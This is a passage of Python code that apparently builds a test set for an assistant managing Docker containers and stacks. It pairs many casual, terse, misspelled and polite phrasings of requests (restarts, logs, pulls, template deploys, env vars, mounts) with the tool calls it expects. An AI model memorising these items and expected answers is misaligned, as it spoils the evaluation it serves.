            lambda s: E(logs(s.c, grep_ci='error')), count=6),
    Pattern('n2-lg-follow', 'logs', ['follow the {c} logs', 'tail -f the {c} log', 'live logs for {c} pls', 'docker logs --follow --tail {tail} {c}',
                                     'follow {c} logs starting from the last {tail} lines', 'stream {c} output as it happens'],
            lambda s: E(logs(s.c, follow=True, **({'tail': s.tail} if hasattr(s, 'tail') else {}))), count=7),
    Pattern('n2-lg-containing', 'logs', ['lines containing {word} in {c} logs', '{c} log lines that mention {word}', "show me {c}'s logs matching {word}",
                                         'docker logs {c} | grep {word}', '{word} in {c} logs over the last {mins} minutes',
                                         'did {c} log any {word} in the past {hours} hours?'],
            lambda s: E(logs(s.c, grep_ci=s.word, **({'since_s': window_s(s)} if hasattr(s, 'mins') or hasattr(s, 'hours') else {}))),
            count=7),
    # ---- n2: phrasal ----
    Pattern('n2-ph-kick', 'phrasal', [('give {cr} a kick', {}), ('power cycle {cr}', {}), ('turn {cr} off and on again', {'two': True}),
                                      ('cycle {cr}', {}), ('turn {cr} off and back on', {'two': True})],
            lambda s: (ANY([ctr('restart', s.cr)], [ctr('stop', s.cr), ctr('start', s.cr)]) if hasattr(s, 'two') else E(ctr('restart', s.cr))),
            count=6),
    Pattern('n2-ph-stack-online', 'phrasal', [('take {st} offline', {'up': False}), ('put the {st} stack back online', {'up': True}),
                                              ('power the {st} stack back on', {'up': True}), ('wind down {st} for the night', {'up': False}),
                                              ('close down the {st} stack for now', {'up': False}), ('switch the {st} stack back on', {'up': True})],
            lambda s: (ANY([stk('start', s.st)], [stk('restart', s.st)], [stk('redeploy', s.st)]) if s.up
                       else stack_or_containers('stop', s.st, s.w.members[s.st])), count=7),
    # ---- n2: question ----
    Pattern('n2-q-uptime', 'question', ['how long has {cr} been up?', 'when did {c} last restart?', "what's {cr}'s uptime",
                                        'since when is {cr} running?', 'how many times has {c} restarted?'],
            lambda s: E(status(first(s, 'cr', 'c'))), count=6),
    Pattern('n2-q-down', 'question', ['is {c} down?', '{c} ok?', 'is {c} dead', 'hows {c} doing', "what's the state of {c}", '{c} status?'],
            lambda s: E(status(s.c)), count=7),
    # ---- n2: inventory ----
    Pattern('n2-in-kinds-casual', 'inventory', [('show me my images', {'k': 'images'}), ('what docker networks do we have', {'k': 'networks'}),
                                                ('which stacks are deployed?', {'k': 'stacks'}), ('docker network ls', {'k': 'networks'}),
                                                ('ls volumes', {'k': 'volumes'}), ('any images lying around?', {'k': 'images'}),
                                                ('what apps can I install from the catalog?', {'k': 'templates'})],
            lambda s: E(lst(s.k)), count=7),
    Pattern('n2-in-pull', 'inventory', [('pull nginx:1.27-alpine', {'imgs': ('nginx:1.27-alpine',)}), ('docker pull redis:7.4', {'imgs': ('redis:7.4',)}),
                                        ('download the grafana/grafana:11.3.0 image', {'imgs': ('grafana/grafana:11.3.0',)}),
                                        ('fetch the latest postgres image', {'imgs': ('postgres', 'postgres:latest')}),
                                        ('pre-pull mariadb 11.4', {'imgs': ('mariadb:11.4',)}),
                                        ('grab the newest alpine image', {'imgs': ('alpine', 'alpine:latest')}),
                                        ('can you pull ghcr.io/immich-app/immich-server:v1.116?', {'imgs': ('ghcr.io/immich-app/immich-server:v1.116',)})],
            lambda s: ANY(*[[pull(i)] for i in s.imgs]), count=7),
    # ---- n2: lifecycle ----
    Pattern('n2-lc-typos2', 'lifecycle', ['{v} {c}', 'pls {v} {c}', '{v} the {c} container'],
            lambda s: E(ctr(s.op, s.c)),
            rows=verbs('restrat=restart', 'restat=restart', 'retsart=restart', 'stopp=stop', 'stoop=stop', 'strt=start', 'statr=start',
                       'pasue=pause', 'unpuase=unpause'), count=7),
    Pattern('n2-lc-shouting', 'lifecycle', ['{v} {c}', '{v} {c} NOW', 'PLEASE {v} {c}', '{v} THE {c} CONTAINER'],
            lambda s: E(ctr(s.op, s.c)), rows=SAFE_VERBS, case='upper', count=6),
    # ---- n3: params ----
    Pattern('n3-pa-tmpl-settings', 'params', [('deploy n8n with timezone America/Chicago', {'x': lambda s: E(tmpl('n8n', timezone='America/Chicago'))}),
                                              ('set up vaultwarden for https://vault.example.org',
                                               {'x': lambda s: E(tmpl('vaultwarden', domain='https://vault.example.org'))}),
                                              ('install gitea at https://git.example.com with ssh on port {port}',
                                               {'x': lambda s: ANY([tmpl('gitea', root_url='https://git.example.com', ssh_port=s.port)],
                                                                   [tmpl('gitea', root_url='https://git.example.com/', ssh_port=s.port)])}),
                                              ('deploy ghost, public url https://news.example.net', {'x': lambda s: E(tmpl('ghost', site_url='https://news.example.net'))}),
                                              ('set up a lemp stack with database {dbname} and db user {user}',
                                               {'x': lambda s: E(tmpl('lemp', db_name=s.dbname, db_user=s.user))}),
                                              ('deploy node-red, tz Asia/Tokyo', {'x': lambda s: E(tmpl('node-red', timezone='Asia/Tokyo'))}),
                                              ('set up prometheus and grafana keeping metrics for 30 days',
                                               {'x': lambda s: ANY([tmpl('prometheus-grafana', retention='30d')], [tmpl('prometheus-grafana', retention='720h')])}),
                                              ('postgres with pgadmin, pgadmin login ops@example.com and pgadmin password {pw}',
                                               {'x': lambda s: E(tmpl('postgres-pgadmin', admin_email='ops@example.com', admin_password=s.pw))})],
            lambda s: s.x(s), count=7),
    Pattern('n3-pa-name-forms', 'params', [('docker run --name={newname} -d {img.prefix}', {}), ('run {img.say}, name: {newname}', {}),
                                           ('run {img.say} and call the container {newname}', {}), ('{img.say} container with the name {newname}', {}),
                                           ('run {img.say} --name {newname} -p {port}:{img.cport}', {'cp': True}),
                                           ('I want a {img.say} container - call it {newname} and put it on {port}', {})],
            lambda s: E(run(image_prefix=s.img.prefix, name=s.newname,
                            ports=[port(s.port, s.img.cport if hasattr(s, 'cp') else None)] if hasattr(s, 'port') else None)), count=7),
    Pattern('n3-pa-versions', 'params', [('run a redis container with the 7.2 tag', {'ims': ('redis:7.2',)}),
                                         ('docker run -d nginx:latest', {'ims': ('nginx:latest', 'nginx'), 'exact': True}),
                                         ('run caddy version 2.8', {'ims': ('caddy:2.8',)}),
                                         ('run httpd 2.4-alpine', {'ims': ('httpd:2.4-alpine',)}),
                                         ('run traefik/whoami at tag v1.10', {'ims': ('traefik/whoami:v1.10',)}),
                                         ('run postgres version 16 with password {pw}', {'ims': ('postgres:16',), 'env': {'POSTGRES_PASSWORD': 'pw'}}),
                                         ('run postgres 16-alpine, password {pw}', {'ims': ('postgres:16-alpine',), 'env': {'POSTGRES_PASSWORD': 'pw'}}),
                                         ('give me a fresh httpd container, latest version', {'ims': ('httpd', 'httpd:latest'), 'exact': True})],
            lambda s: ANY(*[[run(**({'image': i} if getattr(s, 'exact', False) else {'image_prefix': i}),
                                 env=slots_map(s, s.env) if hasattr(s, 'env') else None)] for i in s.ims]), count=7),
    Pattern('n3-pa-tmpl-stack-name', 'params', ['deploy {tm.say} into a stack called {newstack}', 'install {tm.say} and name the stack {newstack}',
                                                'get {tm.say} running as {newstack}', 'set up {tm.say}, stack name: {newstack}',
                                                'I want {tm.say} in its own stack named {newstack}', 'new {newstack} stack from the {tm.say} template'],
            lambda s: E(tmpl(s.tm.id, stack=s.newstack)), count=7),
    Pattern('n3-pa-env-db', 'params', [('spin up postgres:16 with POSTGRES_PASSWORD set to {pw}', {'im': 'postgres:16', 'env': {'POSTGRES_PASSWORD': 'pw'}}),
                                       ('run mysql:8.0, MYSQL_ROOT_PASSWORD={pw}, MYSQL_DATABASE={dbname}',
                                        {'im': 'mysql:8.0', 'env': {'MYSQL_ROOT_PASSWORD': 'pw', 'MYSQL_DATABASE': 'dbname'}}),
                                       ('run mongo:7 -e MONGO_INITDB_ROOT_USERNAME={user} -e MONGO_INITDB_ROOT_PASSWORD={pw}',
                                        {'im': 'mongo:7', 'env': {'MONGO_INITDB_ROOT_USERNAME': 'user', 'MONGO_INITDB_ROOT_PASSWORD': 'pw'}}),
                                       ('run postgres:16 with the env vars POSTGRES_USER {user}, POSTGRES_PASSWORD {pw} and POSTGRES_DB {dbname}',
                                        {'im': 'postgres:16', 'env': {'POSTGRES_USER': 'user', 'POSTGRES_PASSWORD': 'pw', 'POSTGRES_DB': 'dbname'}}),
                                       ('mariadb 11 container, env: MARIADB_ROOT_PASSWORD={pw}, MARIADB_USER={user}',
                                        {'im': 'mariadb:11', 'env': {'MARIADB_ROOT_PASSWORD': 'pw', 'MARIADB_USER': 'user'}})],
            lambda s: E(run(image_prefix=s.im, env=slots_map(s, s.env))), count=6),
    Pattern('n3-pa-restart-flags', 'params', [('docker run -d --restart unless-stopped {img.prefix}', {'rs': ('unless-stopped',)}),
                                              ('run {img.say} with auto-restart', {'rs': ('always', 'unless-stopped')}),
                                              ('run {img.say}, restart on failure', {'rs': ('on-failure',)}),
                                              ('docker run --restart=always --name {newname} {img.prefix}', {'rs': ('always',)}),
                                              ('a {img.say} container that always restarts', {'rs': ('always',)}),
                                              ('run {img.say} and set its restart policy to on-failure', {'rs': ('on-failure',)})],
            lambda s: ANY(*[[run(image_prefix=s.img.prefix, restart=r, name=getattr(s, 'newname', None))] for r in s.rs]), count=7),
    Pattern('n3-pa-tmpl-port-forms', 'params', ['install {tm.say} with port={port} set', 'install {tm.say} - I will browse to it on port {port}',
                                                'deploy {tm.say} so it is reachable at localhost:{port}', 'install {tm.say} on http://localhost:{port}',
                                                'set up {tm.say}, I want to open it at :{port}', 'install {tm.say} and expose it on {port}'],
            lambda s: E(tmpl(s.tm.id, port=s.port)), count=7),
    Pattern('n3-pa-expose', 'params', [('get a {img.say} container going and expose it at {port}', {}), ('{img.say} container, publish port {img.cport} as {port}', {'cp': True}),
                                       ('run {img.say} so I can reach it on localhost:{port}', {}),
                                       ('new {img.say} container please, exposed at {port} on the host', {}),
                                       ('run {img.say} and publish its port {img.cport} on {port}', {'cp': True})],
            lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port, s.img.cport if hasattr(s, 'cp') else None)])), count=6),
    Pattern('n3-pa-postgres-shapes', 'params', [('postgres 16 w/ user {user} pass {pw} db {dbname}',
                                                 {'im': 'postgres:16', 'env': {'POSTGRES_USER': 'user', 'POSTGRES_PASSWORD': 'pw', 'POSTGRES_DB': 'dbname'}}),
                                                ('run a postgres:16-alpine, superuser password {pw}', {'im': 'postgres:16-alpine', 'env': {'POSTGRES_PASSWORD': 'pw'}}),
                                                ('new postgres whose database {dbname} is owned by {user} (password {pw})',
                                                 {'im': 'postgres', 'env': {'POSTGRES_DB': 'dbname', 'POSTGRES_USER': 'user', 'POSTGRES_PASSWORD': 'pw'}}),
                                                ('docker run -e POSTGRES_PASSWORD={pw} -p {port}:5432 postgres:16',
                                                 {'im': 'postgres:16', 'env': {'POSTGRES_PASSWORD': 'pw'}, 'cp': 5432}),
                                                ('postgres 15 container on port {port}, password {pw}', {'im': 'postgres:15', 'env': {'POSTGRES_PASSWORD': 'pw'}})],
            lambda s: E(run(image_prefix=s.im, env=slots_map(s, s.env),
                            ports=[port(s.port, getattr(s, 'cp', None))] if hasattr(s, 'port') else None)), count=6),
    Pattern('n3-pa-bind-forms', 'params', [('new {img.say} container w/ volume {src}:{tgt}', {'ro': False}),
                                           ('docker run -d -v {src}:{tgt}:ro {img.prefix}', {'ro': True}),
                                           ('run {img.say} and mount {src} read only at {tgt}', {'ro': True}),
                                           ('bind-mount {src} on {tgt} in a new {img.say} container', {'ro': False}),
                                           ('run {img.say} with {src} mapped to {tgt} (read-only)', {'ro': True}),
                                           ('run {img.say} and mount my home folder /home/{user} read only at {tgt}', {'ro': True, 'home': True})],
            lambda s: E(run(image_prefix=s.img.prefix,
                            volumes=[{'source': f'/home/{s.user}' if hasattr(s, 'home') else s.src, 'target': s.tgt, 'read_only': s.ro}])),
            rows=[{'src': '/srv/data', 'tgt': '/data'}, {'src': '/mnt/media', 'tgt': '/media'}, {'src': '/opt/config', 'tgt': '/config'},
                  {'src': '/var/backups', 'tgt': '/backups'}], count=7),
    Pattern('n3-pa-mongo-redis', 'params', [('run mongodb 7 with admin user {user} and admin password {pw}',
                                             {'x': lambda s: E(run(image_prefix='mongo:7', env={'MONGO_INITDB_ROOT_USERNAME': s.user, 'MONGO_INITDB_ROOT_PASSWORD': s.pw}))}),
                                            ('new mongo:7.0 container, root login {user}:{pw}',
                                             {'x': lambda s: E(run(image_prefix='mongo:7.0', env={'MONGO_INITDB_ROOT_USERNAME': s.user, 'MONGO_INITDB_ROOT_PASSWORD': s.pw}))}),
                                            ('a mongo 6 database called {dbname} with root password {pw}',
                                             {'x': lambda s: E(run(image_prefix='mongo:6', env={'MONGO_INITDB_DATABASE': s.dbname, 'MONGO_INITDB_ROOT_PASSWORD': s.pw}))}),
                                            ('docker run -d redis:7 redis-server --requirepass {pw}',
                                             {'x': lambda s: E(run(image_prefix='redis:7', command_has=f'--requirepass {s.pw}'))}),
                                            ('redis 7.2 with requirepass {pw}',
                                             {'x': lambda s: ANY([run(image_prefix='redis:7.2', command_has=f'--requirepass {s.pw}')],
                                                                 [run(image_prefix='redis:7.2', env={'REDIS_PASSWORD': s.pw})])}),
                                            ('set up redis on port {port} with password {pw}',
                                             {'x': lambda s: ANY([tmpl('redis', port=s.port, password=s.pw)],
                                                                 [run(image_prefix='redis', ports=[port(s.port)], command_has=f'--requirepass {s.pw}')],
                                                                 [run(image_prefix='redis', ports=[port(s.port)], env={'REDIS_PASSWORD': s.pw})])})],
            lambda s: s.x(s), count=7),
    Pattern('n3-pa-mysql-shapes', 'params', [('mysql 8 please - root password {pw}, db {dbname}',
                                              {'im': 'mysql:8', 'pre': ('MYSQL',), 'env': {'ROOT_PASSWORD': 'pw', 'DATABASE': 'dbname'}}),
                                             ('need a MySQL 8.0 container for {dbname}, user {user}/{pw}, root {pw2}',
                                              {'im': 'mysql:8.0', 'pre': ('MYSQL',), 'env': {'DATABASE': 'dbname', 'USER': 'user', 'PASSWORD': 'pw', 'ROOT_PASSWORD': 'pw2'}}),
                                             ('run mysql:8 (root pw: {pw})', {'im': 'mysql:8', 'pre': ('MYSQL',), 'env': {'ROOT_PASSWORD': 'pw'}}),
                                             ('mariadb 11.4 with user={user} password={pw} database={dbname} root_password={pw2}',
                                              {'im': 'mariadb:11.4', 'pre': ('MARIADB', 'MYSQL'),
                                               'env': {'USER': 'user', 'PASSWORD': 'pw', 'DATABASE': 'dbname', 'ROOT_PASSWORD': 'pw2'}}),
                                             ('spin up a new mariadb, root password "{pw}"', {'im': 'mariadb', 'pre': ('MARIADB', 'MYSQL'), 'env': {'ROOT_PASSWORD': 'pw'}}),
                                             ('run MariaDB, set the root password to {pw} and create database {dbname}',
                                              {'im': 'mariadb', 'pre': ('MARIADB', 'MYSQL'), 'env': {'ROOT_PASSWORD': 'pw', 'DATABASE': 'dbname'}})],
            lambda s: ANY(*[[run(image_prefix=s.im, env={f'{p}_{k}': v for k, v in slots_map(s, s.env).items()})] for p in s.pre]), count=7),
    Pattern('n3-pa-env-flags', 'params', [('docker run -d -e TZ=Europe/Berlin -e PUID=1000 {img.prefix}', {'env': {'TZ': 'Europe/Berlin', 'PUID': '1000'}}),
                                          ('run {img.say} --env TZ=America/New_York', {'env': {'TZ': 'America/New_York'}}),
                                          ('run {img.say} with env var LOG_LEVEL debug', {'env': {'LOG_LEVEL': 'debug'}}),
                                          ('run {img.say} with APP_ENV set to staging', {'env': {'APP_ENV': 'staging'}}),
                                          ('run {img.say}, environment DEBUG=1 and TZ=UTC', {'env': {'DEBUG': '1', 'TZ': 'UTC'}}),
                                          ('new {img.say} container with the variable GREETING=hello', {'env': {'GREETING': 'hello'}})],
            lambda s: E(run(image_prefix=s.img.prefix, env=s.env)), count=7),
    # ---- n3: sequence ----
    Pattern('n3-seq-arrows', 'sequence', [('restart {c} -> show logs', {'x': lambda s: E(ctr('restart', s.c), logs(s.c))}),
                                          ('stop {cr} -> rm {cr}', {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr))}),
                                          ('pull {st} -> redeploy {st}', {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                          ('{c}: restart + tail {tail}', {'x': lambda s: E(ctr('restart', s.c), logs(s.c, tail=s.tail))}),
                                          ('start {cx}, then status', {'x': lambda s: E(ctr('start', s.cx), status(s.cx))})],
            lambda s: s.x(s), count=6),
    Pattern('n3-seq-cross-targets', 'sequence', [('restart {c} and stop {c2}', {'x': lambda s: (ctr('restart', s.c), ctr('stop', s.c2))}),
                                                 ('start {cx} but stop {cr}', {'x': lambda s: (ctr('start', s.cx), ctr('stop', s.cr))}),
                                                 ('stop {cr}, and start {cx} instead', {'x': lambda s: (ctr('stop', s.cr), ctr('start', s.cx))}),
                                                 ('pause {c} and unpause {c2}', {'x': lambda s: (ctr('pause', s.c), ctr('unpause', s.c2))}),
                                                 ('kill {cr} and restart {cx}', {'x': lambda s: (ctr('kill', s.cr), ctr('restart', s.cx))}),
                                                 ('remove {cx}, restart {cr}', {'x': lambda s: (ctr('remove', s.cx), ctr('restart', s.cr))})],
            lambda s: unordered(E(*s.x(s))), count=7),
    Pattern('n3-seq-also', 'sequence', [('restart {c}, and also show me the logs of {c2}', {'x': lambda s: E(ctr('restart', s.c), logs(s.c2))}),
                                        ('stop {cr} and also list the stopped containers', {'x': lambda s: E(ctr('stop', s.cr), lst(status='exited'))}),
                                        ('pause {c} and also show what is running', {'x': lambda s: E(ctr('pause', s.c), lst(status='running'))}),
                                        ('start {cx} plus show me its status', {'x': lambda s: E(ctr('start', s.cx), status(s.cx))}),
                                        ('redeploy {st} and also show its history', {'x': lambda s: E(stk('redeploy', s.st), hist(s.st))})],
            lambda s: s.x(s), count=7),
    Pattern('n3-seq-before', 'sequence', [("show me {c}'s logs before you go and restart it", {'x': lambda s: E(logs(s.c), ctr('restart', s.c))}),
                                          ('check how {c} is doing before restarting it', {'x': lambda s: E(status(s.c), ctr('restart', s.c))}),
                                          ('pull the images for {st} before redeploying it', {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                          ('stop {cr} before removing it', {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr))}),
                                          ('stop {c}, but grab its last {tail} log lines first', {'x': lambda s: E(logs(s.c, tail=s.tail), ctr('stop', s.c))})],
            lambda s: s.x(s), count=7),
    Pattern('n3-seq-mixed-kinds', 'sequence', [('scale {svs.stack} {svs.service} to {n} and show me the {svs.stack} containers',
                                                {'x': lambda s: E(scale(s.svs.stack, s.svs.service, s.n), lst(stack=s.svs.stack))}),
                                               ('roll back {st} and then list its containers', {'x': lambda s: E(rollback(s.st), lst(stack=s.st))}),
                                               ('redeploy {sv.stack} then show logs of {sv.name}', {'x': lambda s: E(stk('redeploy', s.sv.stack), logs(s.sv.name))}),
                                               ('deploy {tm.say} and then list my stacks', {'x': lambda s: E(tmpl(s.tm.id), lst('stacks'))}),
                                               ('pull {st} and show me the images afterwards', {'x': lambda s: E(stk('pull', s.st), lst('images'))})],
            lambda s: s.x(s), count=7),
    # ---- n3: logs ----
    Pattern('n3-lg-since-ago', 'logs', ['{c} log entries from {mins} minutes ago onward', '{c} logs newer than {hours}h',
                                        'everything {c} logged in the previous {mins} minutes', '{c} output from {hours} hours ago until now',
                                        'show {c} logs going back {mins} min'],
            lambda s: E(logs(s.c, since_s=window_s(s))), count=7),
    Pattern('n3-lg-compose-svc', 'logs', [('docker compose -p {sv.stack} logs {sv.service}', {}), ('show {sv.stack}/{sv.service} output', {}),
                                          ('{sv.stack} {sv.service} logs --tail {tail}', {}), ('compose logs -f {sv.service} in {sv.stack}', {'f': True}),
                                          ('docker compose -p {sv.stack} logs --since {mins}m {sv.service}', {})],
            lambda s: E(logs(s.sv.name, **({'tail': s.tail} if hasattr(s, 'tail') else {}), **({'follow': True} if hasattr(s, 'f') else {}),
                             **({'since_s': window_s(s)} if hasattr(s, 'mins') else {}))), case='keep', count=6),
    Pattern('n3-lg-question-shaped', 'logs', [('has {c} thrown any exceptions?', {'g': 'exception'}),
                                              ('were there any timeouts in the {c} log?', {'g': 'timeout'}),
                                              ('what is {c} complaining about?', {'g': None}), ('is {c} logging anything?', {'g': None}),
                                              ('did {c} print any warnings?', {'g': 'warn'})],
            lambda s: E(logs(s.c, **({'grep_ci': s.g} if s.g else {}))), count=6),
    Pattern('n3-lg-combined', 'logs', [('of the last {tail} lines of {c}, show only those with {word}', {}), ('grep {word} in the last {hours} hours of {c} logs', {}),
                                       ('follow {c} logs but only lines with {word}', {'f': True}), ('{c}: last {mins} min of logs, {word} only', {}),
                                       ('show {tail} lines of {c} logs from the past {hours} hours', {})],
            lambda s: E(logs(s.c, **({'tail': s.tail} if hasattr(s, 'tail') else {}),
                             **({'since_s': window_s(s)} if hasattr(s, 'mins') or hasattr(s, 'hours') else {}),
                             **({'grep_ci': s.word} if hasattr(s, 'word') else {}), **({'follow': True} if hasattr(s, 'f') else {}))), count=7),
    Pattern('n3-lg-ref', 'logs', ['logs of the {ref.text}', 'what is the {ref.text} logging?', 'show me the {ref.text} log, last {tail} lines',
                                  '{ref.text} logs pls', 'tail the {ref.text}'],
            lambda s: E(logs(s.ref.name, **({'tail': s.tail} if hasattr(s, 'tail') else {}))), count=7),
    # ---- n3: question ----
    Pattern('n3-q-ref-typo', 'question', [('how is the {ref.text} doing', {}), ("what's the {ref.text}'s memory at", {}),
                                          ('did the {ref.text} crash?', {'why': True}), ('{typo.text} - up or down?', {}), ("what's {typo.text}'s ram usage like", {})],
            lambda s: (ANY([status(first(s, 'ref', 'typo').name)], [logs(first(s, 'ref', 'typo').name)],
                           [status(first(s, 'ref', 'typo').name), logs(first(s, 'ref', 'typo').name)],
                           [logs(first(s, 'ref', 'typo').name), status(first(s, 'ref', 'typo').name)])
                       if hasattr(s, 'why') else E(status(first(s, 'ref', 'typo').name))), count=7),
    Pattern('n3-q-stack-members', 'question', ["what's inside {st}?", 'what containers make up {st}?', 'what services does {st} have',
                                               'what does the {st} stack consist of?'],
            lambda s: stack_state(s.st, s.w.members[s.st]), count=6),
    Pattern('n3-q-svc-shapes', 'question', ['is the {sv.service} service of {sv.stack} healthy?', 'what port does {sv.stack} {sv.service} listen on?',
                                            'status check on {sv.stack}/{sv.service} pls', 'how long has the {sv.stack} {sv.service} been running?'],
            lambda s: E(status(s.sv.name)), count=6),
    # ---- n3: phrasal ----
    Pattern('n3-ph-hold', 'phrasal', [('put {c} on hold', {'op': 'pause'}), ('take {c} off hold', {'op': 'unpause'}),
                                      ('put {c} on pause', {'op': 'pause'}), ('take {c} off pause', {'op': 'unpause'})],
            lambda s: E(ctr(s.op, s.c)), count=6),
    Pattern('n3-ph-clear-out', 'phrasal', ['clear out the stopped containers', 'clean up the exited containers', 'get rid of all the dead containers',
                                           'sweep away every stopped container'],
            lambda s: each_or_all('remove', s.w.stopped), count=5),
    Pattern('n3-ph-power', 'phrasal', [('power {cr} down', {'ops': ('stop',)}), ('close {cr} down for now', {'ops': ('stop',)}),
                                       ('crank {cx} up', {'ops': ('start',)}), ('power {cx} on again', {'ops': ('start', 'restart')}),
                                       ('set {cx} going again', {'ops': ('start', 'restart')}), ('put {cr} to sleep for a while', {'ops': ('stop', 'pause')})],
            lambda s: ANY(*[[ctr(op, first(s, 'cr', 'cx'))] for op in s.ops]), count=7),
    # ---- n3: inventory ----
    Pattern('n3-in-kinds-terse', 'inventory', [('docker container ls', {'k': 'containers'}), ('docker image ls', {'k': 'images'}),
                                               ('docker compose ls', {'k': 'stacks'}), ('what volumes exist on this host?', {'k': 'volumes'}),
                                               ('which templates are available', {'k': 'templates'}), ('show me the app catalog', {'k': 'templates'}),
                                               ('list my compose projects', {'k': 'stacks'})],
            lambda s: E(lst(s.k)), count=7),
    Pattern('n3-in-history-shapes', 'inventory', [('revisions of {st}', {'n': None}), ('show me the last {n} deployments', {'st': None}),
                                                  ('change log for {st}, last {n} entries', {}), ('what did I change recently?', {'st': None, 'n': None}),
                                                  ('list recent deploys', {'st': None, 'n': None}), ('deployment history please', {'st': None, 'n': None})],
            lambda s: E(hist(s.st, s.n)), count=6),
    # ---- n3: lifecycle ----
    Pattern('n3-lc-with-reason', 'lifecycle', [('restart {c} because it is acting up', {'op': 'restart'}),
                                               ('stop {c}, we are doing maintenance', {'op': 'stop'}),
                                               ('pause {c} while I take a snapshot', {'op': 'pause'}),
                                               ('start {cx} again, the maintenance is over', {'op': 'start'}),
                                               ('kill {cr}, it is not responding', {'op': 'kill'}),
                                               ("remove {cx}, we don't use it anymore", {'op': 'remove'})],
            lambda s: E(ctr(s.op, first(s, 'c', 'cx', 'cr'))), count=7),
    Pattern('n3-lc-ref-polite', 'lifecycle', [('could you restart the {ref.text} for me', {'op': 'restart'}),
                                              ('the {ref.text} needs to be stopped', {'op': 'stop'}), ('kindly pause the {ref.text}', {'op': 'pause'}),
                                              ('um, restart the {ref.text}?', {'op': 'restart'}), ('please start the {ref.text} again', {'op': 'start'})],
            lambda s: E(ctr(s.op, s.ref.name)), count=6),
    # ---- n3: coordination ----
    Pattern('n3-co-reads', 'coordination', [('last {tail} log lines from both {c} and {c2}', {'x': lambda s: (logs(s.c, tail=s.tail), logs(s.c2, tail=s.tail))}),
                                            ('follow {c} and {c2} logs together', {'x': lambda s: (logs(s.c, follow=True), logs(s.c2, follow=True))}),
                                            ('is {c} or {c2} down?', {'x': lambda s: (status(s.c), status(s.c2))}),
                                            ('ram for {c}, {c2}, {c3}?', {'x': lambda s: (status(s.c), status(s.c2), status(s.c3))}),
                                            ('{c} and {c2}: last {mins} minutes of logs',
                                             {'x': lambda s: (logs(s.c, since_s=s.mins * 60), logs(s.c2, since_s=s.mins * 60))})],
            lambda s: unordered(E(*s.x(s))), count=7),
    Pattern('n3-co-except', 'coordination', [('{v} everything in {sv.stack} except {sv.name}', {}),
                                             ('{v} every container in {sv.stack} but the {sv.service}', {}),
                                             ('{v} the {sv.stack} stack apart from its {sv.service}', {}),
                                             ('stop all running containers except {cr}', {'v': 'stop', 'op': 'stop'})],
            lambda s: each_or_all(s.op, [n for n in s.w.running_all if n != s.cr] if hasattr(s, 'cr')
                                  else [n for n in s.w.members[s.sv.stack] if n != s.sv.name]),
            rows=verbs('restart', 'stop'), count=7),
    # ---- n4: lifecycle ----
    Pattern('n4-lc-cli', 'lifecycle', [('rs {c} pls', {'op': 'restart'}), ('{c} rs', {'op': 'restart'}), ('ctr restart {c}', {'op': 'restart'}),
                                       ('ctr stop {cr}', {'op': 'stop'}), ('{cx} start pls', {'op': 'start'}), ('rstrt {c}', {'op': 'restart'}),
                                       ('ctr rm {cx}', {'op': 'remove'})],
            lambda s: E(ctr(s.op, first(s, 'c', 'cr', 'cx'))), case='keep', count=7),
    Pattern('n4-lc-beginner', 'lifecycle', [("hi! I think the {ref.text} is stuck, could you please restart it for me? thanks so much", {'x': lambda s: E(ctr('restart', s.ref.name))}),
                                            ("hello, sorry if this is a silly question, but can you stop {cr} for me? I don't need it today", {'x': lambda s: E(ctr('stop', s.cr))}),
                                            ('hey there, {cx} seems to be turned off, would you mind starting it again?', {'x': lambda s: E(ctr('start', s.cx))}),
                                            ("good morning! I'm new to docker - could you pause {c} for a little while please?", {'x': lambda s: E(ctr('pause', s.c))}),
                                            ("hi, I don't use {cx} anymore, so could you please delete that container? thank you!", {'x': lambda s: E(ctr('remove', s.cx))})],
            lambda s: s.x(s), count=6),
    # ---- n4: stack ----
    Pattern('n4-st-cli', 'stack', [('stk rs {st}', {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])}),
                                   ('stk stop {st}', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                   ('stk up {st} --force-recreate', {'x': lambda s: E(stk('redeploy', s.st))}),
                                   ('dc pull {st}', {'x': lambda s: E(stk('pull', s.st))}),
                                   ('stk rm {st}', {'x': lambda s: E(stk('remove', s.st))}),
                                   ('{st} stk restart', {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])}),
                                   ('stk start {st}', {'x': lambda s: stack_or_containers('start', s.st, s.w.members[s.st])})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n4-st-beginner', 'stack', [('hi, the {st} thing I set up is acting weird, could you restart the whole stack for me please?',
                                         {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])}),
                                        ("hello! I'm done with {st} for today, can you stop that stack so it stops using my cpu?",
                                         {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                        ('I changed some settings I think, could you please redeploy my {st} stack? thank you!', {'x': lambda s: E(stk('redeploy', s.st))}),
                                        ('someone told me there are newer images for {st}, could you download them for me?', {'x': lambda s: E(stk('pull', s.st))}),
                                        ("sorry to ask, but could you remove the {st} stack? I'm not using it anymore", {'x': lambda s: E(stk('remove', s.st))})],
            lambda s: s.x(s), count=6),
    # ---- n4: logs ----
    Pattern('n4-lg-cli', 'logs', [('logs -f {c}', {'x': lambda s: E(logs(s.c, follow=True))}),
                                  ('logs {c} last {tail}', {'x': lambda s: E(logs(s.c, tail=s.tail))}),
                                  ('logs {c} --since={mins}m', {'x': lambda s: E(logs(s.c, since_s=s.mins * 60))}),
                                  ('{c} logs -f --tail={tail}', {'x': lambda s: E(logs(s.c, follow=True, tail=s.tail))}),
                                  ('logs {c} --since {hours}h -f', {'x': lambda s: E(logs(s.c, since_s=s.hours * 3600, follow=True))}),
                                  ('logs {c} grep {word}', {'x': lambda s: E(logs(s.c, grep_ci=s.word))})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n4-lg-beginner', 'logs', [("hi! {c} isn't behaving and someone told me to look at the logs, could you show me the last {tail} lines please?",
                                        {'x': lambda s: E(logs(s.c, tail=s.tail))}),
                                       ("sorry to bother you, could you show me what {c} has been logging in the last {mins} minutes? I'm trying to understand a problem",
                                        {'x': lambda s: E(logs(s.c, since_s=s.mins * 60))}),
